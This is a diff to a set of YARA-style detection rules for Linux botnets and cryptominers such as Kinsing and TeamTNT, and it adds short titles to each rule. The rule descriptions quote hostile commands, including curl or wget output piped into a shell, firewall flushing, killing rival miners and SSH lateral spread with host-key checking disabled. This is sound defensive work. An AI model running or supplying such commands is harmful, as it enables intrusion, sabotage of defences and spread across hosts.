@@ -8,6 +8,7 @@
 rule Botnet_Download_Pipe_Shell : botnet
 {
     meta:
+        title = "download piped into a shell"
         description = "a script fetched and run in one go: curl or wget output piped into a shell (curl -fsSL http://HOST/x.sh | bash, wget -q -O - URL | sh)"
         severity = "medium"
         attack = "T1105"
@@ -27,6 +28,7 @@ rule Botnet_Download_Pipe_Shell : botnet
 rule Botnet_Security_Tampering : botnet
 {
     meta:
+        title = "defences and firewall disabled"
         description = "a loader disabling defences together: firewall flushed or disabled (ufw disable, iptables -F), chattr to lock or unlock files, SELinux off, cloud agents and kernel watchdogs stopped, history wiped"
         severity = "high"
         attack = "T1562.001"
@@ -61,6 +63,7 @@ rule Botnet_Security_Tampering : botnet
 rule Botnet_Competitor_Killing : botnet
 {
     meta:
+        title = "rival miners killed"
         description = "a script killing rival miners and botnets by name (kdevtmpfsi, kinsing, xmrig, minerd, xmr-stak, sysupdate, dbused ...) or by their pool ports, the habit of Kinsing and TeamTNT loaders"
         severity = "high"
         attack = "T1496"
@@ -93,6 +96,7 @@ rule Botnet_Competitor_Killing : botnet
 rule Botnet_Kinsing_Artifacts : botnet
 {
     meta:
+        title = "Kinsing botnet artifacts"
         description = "the file names and strings of the Kinsing botnet (kinsing, kdevtmpfsi, its /tmp and /etc paths) in a file or memory"
         severity = "high"
         attack = "T1496"
@@ -115,6 +119,7 @@ rule Botnet_Kinsing_Artifacts : botnet
 rule Botnet_TeamTNT_Artifacts : botnet
 {
     meta:
+        title = "TeamTNT name"
         description = "the TeamTNT group's own name (it signs its scripts and payloads and uses it in its domains) in a script, a binary or memory"
         severity = "high"
         attack = "T1496"
@@ -131,6 +136,7 @@ rule Botnet_TeamTNT_Artifacts : botnet
 rule Botnet_SSH_Lateral_Spread : botnet
 {
     meta:
+        title = "SSH lateral spreader"
         description = "a spreader walking the host's SSH trust: known_hosts and bash_history mined for hosts, private keys tried with ssh -oStrictHostKeyChecking=no -oBatchMode=yes, then a download run remotely"
         severity = "high"
         attack = "T1021.004"
